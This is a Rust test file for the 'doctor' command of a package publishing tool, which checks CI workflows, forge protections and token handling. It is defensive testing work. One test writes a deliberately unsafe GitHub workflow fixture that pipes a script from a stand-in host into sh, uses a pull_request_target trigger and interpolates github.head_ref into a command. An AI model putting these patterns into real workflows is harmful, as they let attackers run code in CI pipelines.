//! `shipway doctor`: what is found on the machine, in the workflows and at the forge, what could not be read, and
//! whether this forge is proven.

use serde_json::{Value, json};
use shipway_testing::forge::{CANARY, Fault, Forge, Guards, Instead};
use shipway_testing::{Place, Program, Project, Server};

const PYPROJECT: &str = "[build-system]\nrequires = [\"flit_core>=3.9\"]\nbuild-backend = \"flit_core.buildapi\"\n\n\
    [project]\nname = \"demo-pkg\"\nversion = \"1.2.3\"\ndescription = \"Demo\"\n\n[tool.shipway]\n";

fn place() -> Place {
    Place::new(env!("CARGO_BIN_EXE_shipway"))
}

fn demo<'p>(place: &'p Place, more: &str) -> Project<'p> {
    Project::from_files(
        place,
        &[
            ("pyproject.toml", &format!("{PYPROJECT}{more}")),
            ("demo_pkg.py", "\"\"\"Demo.\"\"\"\n"),
            (".gitignore", "/dist/\n/.shipway/*\n"),
            (".github/CODEOWNERS", "/.github/ @team\n"),
        ],
    )
}

fn in_ci(program: Program, forge: &Forge) -> Program {
    forge.variables().into_iter().fold(program, |program, (name, value)| program.env(name, value))
}

/// The level of a look; none when it was not taken.
fn level(document: &Value, id: &str) -> Option<String> {
    let looks = document["looks"].as_array().expect("looks");
    looks.iter().find(|look| look["id"] == id).and_then(|look| look["level"].as_str().map(str::to_owned))
}

fn levels(document: &Value, ids: &[&str]) -> Vec<String> {
    ids.iter().map(|id| level(document, id).unwrap_or_else(|| "none".to_owned())).collect()
}

const AT_FORGE: [&str; 8] = [
    "base-protected",
    "tags-protected",
    "environment",
    "environment-reviewers",
    "environment-branches",
    "workflow-token",
    "sha-pinning",
    "workflows-owned",
];

#[test]
fn a_sound_project_has_no_error_and_says_what_it_used() {
    let place = place();
    let project = demo(&place, "");
    let ran = project.shipway(["doctor", "--json"]).run();
    let document = ran.json();
    assert_eq!((ran.code, &document["schema"]), (Some(0), &json!("shipway.doctor/1")), "{}", ran.stdout);
    let ids = ["configuration", "git", "remote", "python", "pip", "index"];
    assert_eq!(levels(&document, &ids), ["ok"; 6], "{}", ran.stdout);
    assert_eq!(levels(&document, &["no-gates", "workflows"]), ["warning"; 2]);
    assert!(!place.data().exists(), "it starts no embedded index");
    let table = project.shipway(["doctor"]).must();
    assert!(table.stdout.contains("warning  workflows"), "{}", table.stdout);
}

#[test]
fn every_look_that_is_wrong_refuses_and_is_explained() {
    let place = place();
    let project = demo(&place, "index = \"http://127.0.0.1:9/\"\n");
    project.write(
        ".github/workflows/old.yml",
        "on: pull_request_target\njobs:\n  go:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://x.example/i.sh | sh\n      - run: twine upload dist/* ${{ github.head_ref }}\n",
    );
    project.git(["remote", "set-url", "origin", "/nowhere"]).must();
    let ran = project.shipway(["doctor", "--json"]).env("SHIPWAY_TOKEN", "canary-token").run();
    let document = ran.json();
    assert_eq!((ran.code, &document["ok"]), (Some(1), &json!(false)), "{}", ran.stdout);
    let wrong = [
        "remote",
        "index",
        "dangerous-trigger",
        "action-not-pinned",
        "piped-installer",
        "interpolation",
        "publish-environment",
        "publish-gate",
    ];
    assert_eq!(levels(&document, &wrong), ["error"; 8], "{}", ran.stdout);
    let weak = ["permissions", "persisted-credentials", "publish-concurrency"];
    assert_eq!(levels(&document, &weak), ["warning"; 3], "{}", ran.stdout);
    assert_eq!(level(&document, "credential").as_deref(), Some("ok"));
    assert!(ran.stdout.contains("from SHIPWAY_TOKEN"));
    let _ = ran.never_says("canary-token");
    for look in document["looks"].as_array().expect("looks") {
        project.shipway(["explain"]).arg(look["id"].as_str().expect("an id")).must();
    }
    // Without the network nothing is said about the index.
    let offline = project.shipway(["doctor", "--offline", "--json"]).run().json();
    assert_eq!(level(&offline, "index"), None);
}

#[test]
fn a_configuration_that_cannot_be_read_is_an_answer_too() {
    let place = place();
    let project = demo(&place, "chanels = []\n");
    let ran = project.shipway(["doctor", "--json"]).run();
    assert_eq!(
        (ran.code, level(&ran.json(), "configuration").as_deref()),
        (Some(2), Some("error")),
        "{}",
        ran.stdout
    );
}

#[test]
fn what_yaml_cannot_set_is_read_at_the_forge() {
    let place = place();
    let forge = Forge::start(&place.folder("forge"), "team/demo");
    let project = demo(&place, "");
    project.git(["push", "--quiet", forge.git().path().to_str().expect("a path"), "main"]).must();
    let look = || {
        let ran = in_ci(project.shipway(["doctor", "--forge", "--json"]), &forge).run();
        assert!(!ran.all().contains(CANARY), "a token is in the output");
        (ran.code, ran.json())
    };
    let (code, good) = look();
    assert_eq!((code, levels(&good, &AT_FORGE)), (Some(0), vec!["ok".to_owned(); 8]), "{good:#}");

    // A repository as it is made: nothing is guarded.
    {
        let mut state = forge.state();
        state.guards = Guards {
            protected: false,
            environments: Vec::new(),
            branches: [].into(),
            rules: Vec::new(),
            rulesets: Vec::new(),
            token: json!({ "default_workflow_permissions": "write", "can_approve_pull_request_reviews": true }),
            actions: json!({ "enabled": true, "allowed_actions": "all", "sha_pinning_required": false }),
        };
    }
    std::fs::remove_file(project.directory().join(".github/CODEOWNERS")).expect("a file");
    let (code, bare) = look();
    let expected = ["error", "warning", "error", "none", "none", "error", "warning", "warning"];
    assert_eq!((code, levels(&bare, &AT_FORGE)), (Some(1), expected.map(str::to_owned).into()), "{bare:#}");

    // An environment that anybody uses and nobody approves; one with another branch.
    {
        let mut state = forge.state();
        let mut weak = Guards::default();
        weak.environments[0]["protection_rules"] = json!([]);
        weak.environments[0]["deployment_branch_policy"] = Value::Null;
        state.guards = weak;
    }
    let (_, weak) = look();
    assert_eq!(levels(&weak, &["environment-reviewers", "environment-branches"]), ["error", "error"]);
    {
        let mut state = forge.state();
        let mut other = Guards::default();
        other.environments[0]["protection_rules"][0]["prevent_self_review"] = json!(false);
        other.branches.insert("private-index".to_owned(), vec!["main".to_owned(), "try/*".to_owned()]);
        state.guards = other;
    }
    let (_, other) = look();
    assert_eq!(levels(&other, &["environment-reviewers", "environment-branches"]), ["warning", "warning"]);
}

#[test]
fn what_the_token_may_not_read_is_unknown_and_never_fine() {
    for status in [403, 404, 401] {
        let place = place();
        let forge = Forge::start(&place.folder("forge"), "team/demo");
        let project = demo(&place, "");
        project.git(["push", "--quiet", forge.git().path().to_str().expect("a path"), "main"]).must();
        for path in [
            "/environments",
            "/rules/branches/main",
            "/rulesets",
            "/actions/permissions",
            "/actions/permissions/workflow",
        ] {
            let no =
                Instead::Status(status, Vec::new(), "{\"message\":\"Resource not accessible\"}".to_owned());
            forge.fault(Fault::always(&format!("GET /repos/team/demo{path}"), no));
        }
        let ran = in_ci(project.shipway(["doctor", "--forge", "--json"]), &forge).run();
        let document = ran.json();
        let expected = ["unknown"; 7];
        assert_eq!(levels(&document, &AT_FORGE[..7]), expected, "{status}: {document:#}");
        let looks = document["looks"].as_array().expect("looks");
        let message =
            looks.iter().find(|look| look["id"] == "environment").expect("a look")["message"].to_string();
        assert!(message.contains("could not be read with this token"), "{message}");
    }
}

/// A CI run at a forge; `publish` asks it nothing.
fn at(program: Program, api: &str) -> Program {
    let program = program.env("GITHUB_API_URL", api).env("GITHUB_REPOSITORY", "team/demo");
    program.env("GITHUB_RUN_ID", "9001").env("GITHUB_RUN_ATTEMPT", "1")
}

#[test]
fn k9_a_forge_is_unproven_until_one_publish_from_it_was_read_back() {
    const LIVE: &str = "https://forge.example/api/v3/";
    const TEST: &str = "http://127.0.0.1:9/";
    for (api, proves) in [(TEST, false), (LIVE, true)] {
        let place = place();
        let server = Server::start(&place, &place.data(), ["--upstream", "auto"]);
        let token = place.shipway([
            "admin",
            "token",
            "create",
            "--name",
            "all",
            "--action",
            "upload,read,evidence",
            "--data",
        ]);
        let token = token.arg(place.data()).must().stdout.trim().to_owned();
        let project = demo(&place, &format!("index = \"{}\"\n", server.url()));
        let shipway =
            |arguments: &[&str]| at(project.shipway([]).args(arguments), api).env("SHIPWAY_TOKEN", &token);
        let proof = || {
            let document =
                at(project.shipway(["doctor", "--json"]), LIVE).env("SHIPWAY_TOKEN", &token).run().json();
            (level(&document, "unproven").expect("a look"), document["proven"]["kept"].clone())
        };
        assert_eq!(proof(), ("warning".to_owned(), Value::Null));
        shipway(&["build"]).must();
        shipway(&["publish", "--dry-run"]).must();
        assert_eq!(proof().0, "warning", "a dry run proves nothing");
        shipway(&["publish"]).must();
        if !proves {
            assert_eq!(proof().0, "warning", "a forge on this machine proves nothing");
            continue;
        }
        assert_eq!(proof(), ("ok".to_owned(), json!("kept here")));
        // Another machine learns it from the index.
        std::fs::remove_dir_all(project.directory().join(".shipway")).expect("the records");
        assert_eq!(proof(), ("ok".to_owned(), json!("index")));
        let elsewhere = at(project.shipway(["doctor", "--json"]), "https://other.example/api/v3/");
        let elsewhere = elsewhere.env("SHIPWAY_TOKEN", &token).run().json();
        assert_eq!(
            level(&elsewhere, "unproven").as_deref(),
            Some("warning"),
            "one forge says nothing of another"
        );
    }
}

#[test]
fn a_handed_over_manifest_must_be_the_one_that_was_verified() {
    let place = place();
    let project = demo(&place, "");
    project.shipway(["build"]).must();
    let path = project.directory().join(".shipway/manifest.json");
    let bytes = std::fs::read(&path).expect("a manifest");
    let digest = shipway_dist::Sha256::of(&bytes).to_hex();
    let publish = |digest: &str| {
        let program =
            project.shipway(["publish", "--manifest", ".shipway/manifest.json", "--manifest-sha256"]);
        program.arg(digest).arg("--json").run()
    };
    let other = publish(&"0".repeat(64));
    assert_eq!((other.code, &other.json()["code"]), (Some(1), &json!("manifest")), "{}", other.stderr);
    assert_eq!(std::fs::read(&path).expect("a manifest"), bytes);
    assert!(
        project.shipway(["status", "--json"]).run().stdout.find("1.2.3").is_none(),
        "nothing was published"
    );
    assert_eq!(publish("zz").code, Some(2));
    assert_eq!(publish(&digest).code, Some(0));
}

#[test]
fn c10_gates_run_with_what_a_file_locks_and_with_the_built_wheel() {
    let place = place();
    let more = "[[tool.shipway.gate]]\nid = \"tests\"\nrun = \"python -I -c 'import demo_pkg; assert \\\"gates\\\" in demo_pkg.__file__'\"\n";
    let project = demo(&place, more);
    project.shipway(["build"]).must();
    let gate =
        |file: &str| project.shipway(["gate", "run", "tests", "--json", "--requirements"]).arg(file).run();
    let none = gate("none.txt");
    assert_eq!((none.code, &none.json()["code"]), (Some(2), &json!("no-requirements")));
    project.write("open.txt", "flit_core\n");
    let open = gate("open.txt");
    assert_eq!(open.code, Some(3), "{}", open.stderr);
    assert!(open.stderr.contains("needs `--hash`"), "{}", open.stderr);
    project.write("locked.txt", "# nothing besides the project itself\n");
    let locked = gate("locked.txt");
    assert_eq!(locked.code, Some(0), "{}{}", locked.stdout, locked.stderr);
    // Without it the gate has no such module: a collection error fails, and is no success with nothing to do.
    let bare = project.shipway(["gate", "run", "tests"]).run();
    assert_eq!(bare.code, Some(1), "{}", bare.stderr);
}
